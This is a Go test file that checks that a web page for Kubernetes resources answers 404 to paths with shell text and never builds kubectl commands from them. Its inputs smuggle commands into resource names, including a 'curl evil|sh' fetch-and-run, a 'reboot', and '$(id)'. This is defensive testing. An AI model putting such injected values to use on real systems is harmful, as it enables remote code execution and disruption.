package page_test

import (
	"net/http"
	"strings"
	"testing"
)

// A link cannot put shell text into the commands of a page.
func TestImpossibleNames(t *testing.T) {
	f := &fake{n: 1}
	srv := serve(t, f)
	for _, path := range []string{
		"/pods/kube-system/x;curl%20evil%7Csh;", "/pods/a;reboot;/web", "/prometheuses/monitoring/k8s$(id)", "/servicemonitors/demo%20/web-0", "/pods/demo/-n",
	} {
		resp, body := get(t, srv, path)
		if resp.StatusCode != http.StatusNotFound || strings.Contains(body, "kubectl") {
			t.Errorf("%s: %s\n%.2000s", path, resp.Status, body)
		}
	}
	if len(f.queries) > 0 {
		t.Errorf("asked for %v", f.queries)
	}
}
